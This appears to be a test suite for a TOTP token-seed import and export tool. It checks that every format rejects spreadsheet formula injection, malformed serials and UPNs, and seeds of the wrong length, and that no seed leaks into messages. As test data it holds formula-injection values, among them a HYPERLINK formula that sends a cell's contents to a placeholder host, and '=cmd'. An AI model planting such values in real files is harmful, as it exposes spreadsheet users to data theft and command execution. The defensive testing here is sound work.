/**
 * Issue 11 items 2 and 6, issue 15 item 4: what may enter through any importer (no formula, a
 * serial of letters, digits and "-", an Entra-shaped UPN, a seed of 128 bits to 64 bytes), the
 * manufacturer and model an import fills in, and what the Entra-bound exporters refuse.
 */
import { describe, expect, it } from 'vitest';
import { formulaProblem, nameProblem, serialProblem, upnProblem, userNameProblem } from '../../src/core/identity.js';
import { encodeBase32, seedLengthProblem } from '../../src/core/secretCodec.js';
import { ENTRA_CSV_HEADER } from '../../src/formats/entraCsv.js';
import { guessDeviceNames } from '../../src/formats/deviceNames.js';
import { exporters, importers } from '../../src/formats/index.js';
import type { ParseOptions, ParseResult, SeedFormat } from '../../src/formats/types.js';
import { GOLDEN_ROWS, chunked, refusal } from './helpers.js';

const SEED = '3132333435363738393031323334353637383930'; // 20 bytes
const hexOf = (bytes: number) => 'a1'.repeat(bytes);
const csvQuoted = (text: string) => `"${text.replace(/"/g, '""')}"`;
const xmlText = (text: string) => text.replace(/&/g, '&amp;').replace(/</g, '&lt;');

/** A one-token file of each format with the given fields. */
function oneToken(format: SeedFormat, f: { serial?: string; manufacturer?: string; model?: string; upn?: string; seedHex?: string }): string {
  const serial = f.serial ?? 'T1';
  const seedHex = f.seedHex ?? SEED;
  const seed32 = encodeBase32(new Uint8Array(Buffer.from(seedHex, 'hex')));
  const manufacturer = f.manufacturer ?? 'Token2';
  const model = f.model ?? 'C202';
  switch (format) {
    case 'entra-csv':
      return `${ENTRA_CSV_HEADER}\n${f.upn ?? ''},${serial},${seed32},30,${csvQuoted(manufacturer)},${csvQuoted(model)}\n`;
    case 'graph-json':
      return JSON.stringify([{ serialNumber: serial, secretKey: seed32, timeIntervalInSeconds: 30, manufacturer, model }]);
    case 'oath-csv':
      return `# version: 2\n${f.upn ?? ''},,,${serial},${seedHex},totp,6,30\n`;
    case 'pskc':
      return (
        '<?xml version="1.0"?><KeyContainer Version="1.0" xmlns="urn:ietf:params:xml:ns:keyprov:pskc"><KeyPackage>' +
        `<DeviceInfo><Manufacturer>${xmlText(manufacturer)}</Manufacturer><SerialNo>${xmlText(serial)}</SerialNo><Model>${xmlText(model)}</Model></DeviceInfo>` +
        '<Key Id="k1" Algorithm="urn:ietf:params:xml:ns:keyprov:pskc:totp"><Data><Secret><PlainValue>' +
        `${Buffer.from(seedHex, 'hex').toString('base64')}</PlainValue></Secret></Data></Key></KeyPackage></KeyContainer>`
      );
  }
}

const parse = (format: SeedFormat, text: string, options: ParseOptions = {}): Promise<ParseResult> => importers[format].parse(chunked(text), options);
const FORMATS = ['entra-csv', 'graph-json', 'oath-csv', 'pskc'] as const;

describe('core/identity: the rules every entry point asks', () => {
  it('a formula starts with = + - @, a tab or a CR', () => {
    for (const text of ['=1+1', '+1', '-1', '@SUM(A1)', '\tx', '\rx']) expect(formulaProblem(text), text).toMatch(/formula/);
    for (const text of ['Token2', 'C202 "mini"', '1-2', 'a=b', '', ' =x'.trim().slice(1)]) expect(formulaProblem(text), text).toBeNull();
  });

  it('a serial is letters, digits and inner dashes', () => {
    for (const serial of ['0001234567', 'T2-000099', 'ABC', '1-2-3']) expect(serialProblem(serial), serial).toBeNull();
    for (const serial of ['-123', '=1', '@A', '+1', 'A,B', 'A B', 'A_B', 'A.B', 'A#B', '10\t05', 'É1']) expect(serialProblem(serial), serial).not.toBeNull();
    expect(serialProblem('-123')).toMatch(/formula/);
  });

  it("a UPN has Entra's characters: letters, digits and ' . - _ ! # ^ ~ before the @", () => {
    for (const upn of ['alice@example.com', "o'neil@example.com", 'a.b-c_d!e#f^g~h@sub.example.co']) expect(upnProblem(upn), upn).toBeNull();
    for (const upn of ['=1+1@example.com', '+a@example.com', 'a+b@example.com', 'a=b@example.com', '-a@example.com', 'a.@example.com', '@example.com', 'a@b@example.com', `a@${'x'.repeat(45)}.com`]) {
      expect(upnProblem(upn), upn).not.toBeNull();
    }
    expect(upnProblem('-alice@example.com')).toMatch(/formula/);
  });

  it('names have no control characters and no formula start; user names no separators either', () => {
    expect(nameProblem('Token2, Inc.')).toBeNull();
    expect(nameProblem('=HYPERLINK("x")')).toMatch(/formula/);
    expect(nameProblem('C\t202')).toMatch(/control/);
    expect(userNameProblem('bsmith')).toBeNull();
    for (const name of ['', ' b', 'a,b', 'a;b', '#b', '@b', '-b']) expect(userNameProblem(name), name).not.toBeNull();
  });

  it('a seed is 128 bits to 64 bytes; shorter only when allowed', () => {
    expect(seedLengthProblem(16)).toBeNull();
    expect(seedLengthProblem(64)).toBeNull();
    expect(seedLengthProblem(15)).toMatch(/120 bits; RFC 4226 asks for at least 128.*--allow-short-seeds/);
    expect(seedLengthProblem(15, true)).toBeNull();
    expect(seedLengthProblem(65, true)).toMatch(/65 bytes; tokendesk takes at most 64/);
    expect(seedLengthProblem(0, true)).toMatch(/empty/);
  });
});

describe('every importer keeps formulas out, line by line', () => {
  const cases = [
    { field: 'manufacturer', value: '=HYPERLINK("https://x/?"&C2)', expected: /^the manufacturer starts with "="/ },
    { field: 'model', value: '+1', expected: /^the model starts with "\+"/ },
    { field: 'model', value: '@SUM(1)', expected: /^the model starts with "@"/ },
    { field: 'serial', value: '-1234', expected: /formula|letters, digits/ },
    { field: 'serial', value: '=1', expected: /letters, digits/ },
  ] as const;
  for (const format of FORMATS) {
    for (const { field, value, expected } of cases) {
      if (format === 'oath-csv' && field !== 'serial') continue; // OATH CSV has no manufacturer or model
      it(`${format}: a ${field} of ${JSON.stringify(value)} is rejected with a reason`, async () => {
        const result = await parse(format, oneToken(format, { [field]: value }));
        expect(result.records).toEqual([]);
        expect(result.rejects).toHaveLength(1);
        expect(result.rejects[0]!.reason).toMatch(expected);
        expect(result.rejects[0]!.where).toEqual(expect.objectContaining(format === 'graph-json' ? { keyId: '0' } : {}));
      });
    }
  }

  it('entra-csv: a UPN of =1+1@example.com is rejected (it was accepted before)', async () => {
    const result = await parse('entra-csv', oneToken('entra-csv', { upn: '=1+1@example.com' }));
    expect(result.records).toEqual([]);
    expect(result.rejects[0]).toMatchObject({ where: { line: 2 }, serial: 'T1', reason: expect.stringMatching(/^UPN: the part before @ has characters Entra does not allow/) });
  });

  it('oath-csv: a username that starts a formula is rejected', async () => {
    const result = await parse('oath-csv', oneToken('oath-csv', { upn: '-cmd' }));
    expect(result.rejects[0]?.reason).toBe('column 1 (username) starts with a character a spreadsheet runs as a formula');
  });

  it('a --manufacturer or --model that starts a formula refuses the file', async () => {
    for (const format of FORMATS) {
      const error = await refusal(() => parse(format, oneToken(format, {}), { manufacturer: '=cmd' }));
      expect(error.message).toMatch(/--manufacturer value cannot be used: it starts with "="/);
    }
  });
});

describe('every importer checks the seed length (RFC 4226: at least 128 bits; at most 64 bytes)', () => {
  for (const format of FORMATS) {
    it(`${format}: 1 and 15 bytes refused unless allowed, 16 and 64 read, 65 refused`, async () => {
      const outcome = async (bytes: number, options: ParseOptions = {}) => {
        const result = await parse(format, oneToken(format, { seedHex: hexOf(bytes) }), { hash: 'SHA1', ...options });
        return result.records.length === 1 ? 'read' : result.rejects[0]?.reason;
      };
      expect(await outcome(1)).toMatch(/8 bits; RFC 4226 asks for at least 128/);
      expect(await outcome(15)).toMatch(/120 bits/);
      expect(await outcome(15, { allowShortSeeds: true })).toBe('read');
      expect(await outcome(16)).toBe('read');
      expect(await outcome(64)).toBe('read');
      expect(await outcome(65, { allowShortSeeds: true })).toMatch(/65 bytes; tokendesk takes at most 64|longer than 64 bytes/);
    });
  }

  it('a 10 MB secret string is refused by its length, before it is decoded', async () => {
    const huge = 'A'.repeat(10 * 1024 * 1024);
    const result = await parse('graph-json', JSON.stringify([{ serialNumber: 'T1', secretKey: huge, timeIntervalInSeconds: 30 }]));
    expect(result.records).toEqual([]);
    expect(result.rejects[0]?.reason).toBe('the secret key is longer than 64 bytes can be');
  });
});

describe('manufacturer and model for files that name none (issue 15 item 4)', () => {
  const options = { manufacturer: 'Token2', model: 'C202' };

  it('OATH CSV and a PSKC without DeviceInfo take them from the options', async () => {
    const oath = await parse('oath-csv', `T1,${SEED},totp,6,30\n`, options);
    expect(oath.records[0]).toMatchObject({ manufacturer: 'Token2', model: 'C202' });
    const pskc = oneToken('pskc', {}).replace(/<DeviceInfo>.*<\/DeviceInfo>/, '');
    expect((await parse('pskc', pskc, options)).records[0]).toMatchObject({ serial: 'k1', manufacturer: 'Token2', model: 'C202' });
  });

  it('Graph JSON and Entra CSV fill empty values only; what the file names wins', async () => {
    const graph = JSON.stringify([
      { serialNumber: 'T1', secretKey: encodeBase32(new Uint8Array(20)), timeIntervalInSeconds: 30, manufacturer: '', model: '' },
      { serialNumber: 'T2', secretKey: encodeBase32(new Uint8Array(20)), timeIntervalInSeconds: 30, manufacturer: 'Feitian', model: 'c100' },
    ]);
    expect((await parse('graph-json', graph, options)).records.map((r) => [r.manufacturer, r.model])).toEqual([
      ['Token2', 'C202'],
      ['Feitian', 'c100'],
    ]);
    const entra = `${ENTRA_CSV_HEADER}\n,T1,${encodeBase32(new Uint8Array(20))},30,,\n`;
    expect((await parse('entra-csv', entra, options)).records[0]).toMatchObject({ manufacturer: 'Token2', model: 'C202' });
  });
});

describe('the Entra-bound exporters refuse what Entra would', () => {
  for (const format of ['entra-csv', 'graph-json'] as const) {
    it(`${format}: empty manufacturer or model, by serial`, () => {
      const refused = exporters[format].unsupported([
        GOLDEN_ROWS[0]!,
        { ...GOLDEN_ROWS[0]!, serial: 'NOMAKER', manufacturer: '' },
        { ...GOLDEN_ROWS[0]!, serial: 'NOMODEL', model: ' ' },
        { ...GOLDEN_ROWS[0]!, serial: 'NEITHER', manufacturer: '', model: '' },
      ]);
      expect(refused).toEqual([
        { serial: 'NOMAKER', reason: 'it has no manufacturer, which Entra requires (the import sets them with --manufacturer and --model)' },
        { serial: 'NOMODEL', reason: 'it has no model, which Entra requires (the import sets them with --manufacturer and --model)' },
        { serial: 'NEITHER', reason: 'it has no manufacturer and no model, which Entra requires (the import sets them with --manufacturer and --model)' },
      ]);
    });

    it(`${format}: a secret over 128 Base32 characters, a UPN or serial Entra does not take`, () => {
      const refused = exporters[format].unsupported([
        { ...GOLDEN_ROWS[0]!, serial: 'LONG', secret: new Uint8Array(81) },
        { ...GOLDEN_ROWS[0]!, serial: 'BADUPN', upn: '=1+1@example.com' },
        { ...GOLDEN_ROWS[0]!, serial: 'A_B' },
      ]);
      expect(refused.map((r) => [r.serial, r.reason])).toEqual([
        ['LONG', expect.stringMatching(/128 Base32/)],
        ['BADUPN', expect.stringMatching(/^UPN: /)],
        ['A_B', expect.stringMatching(/letters, digits/)],
      ]);
    });
  }

  it('entra-csv: a model that starts a formula is refused as the last guard', () => {
    expect(exporters['entra-csv'].unsupported([{ ...GOLDEN_ROWS[0]!, model: '@SUM(1)' }])[0]!.reason).toBe(
      'its model starts with "@", which a spreadsheet runs as a formula',
    );
  });
});

describe('no reject, skip or warning quotes a seed', () => {
  it('a seed in any OATH CSV column position never reaches a message', async () => {
    const seed = 'f03eee4d0fb4b5d4fc0ec0f1fa0e5cb4a2ca75d0';
    const rows = [
      `${seed},T1,totp,6,30`,
      `T1,totp,${seed},6,30`,
      `T1,${seed},${seed},6,30`,
      `T1,${seed},totp,${seed},30`,
      `T1,${seed},totp,6,${seed}`,
      `T1,${seed},totp,6,30,${seed}`,
      `owner,T1,${seed},totp,6,30`,
    ];
    const result = await parse('oath-csv', `${rows.join('\n')}\n`);
    expect(result.rejects.length + result.skipped.length).toBe(rows.length);
    expect(JSON.stringify(result).toLowerCase()).not.toContain(seed.slice(0, 10));
    expect(result.rejects[0]).toEqual({ where: { line: 1 }, reason: 'column 1 (serial): the serial is 40 characters of hex or Base32, like a secret: the columns may be shifted' });
  });
});

describe('manufacturer and model guessed from the file name (the CLI default of --manufacturer/--model)', () => {
  it.each([
    ['Token2_C202_box-12.csv', { manufacturer: 'Token2', model: 'C202' }],
    ['/deliveries/token2-c302-2025.pskcxml.gpg', { manufacturer: 'Token2', model: 'c302' }],
    ['FEITIAN c100 box3.zip', { manufacturer: 'Feitian', model: 'c100' }],
    ['deepnet.csv', { manufacturer: 'Deepnet' }],
    ['seeds-2025.csv', {}],
    ['box12.csv', {}],
  ])('%s', (name, expected) => {
    expect(guessDeviceNames(name)).toEqual(expected);
  });
});
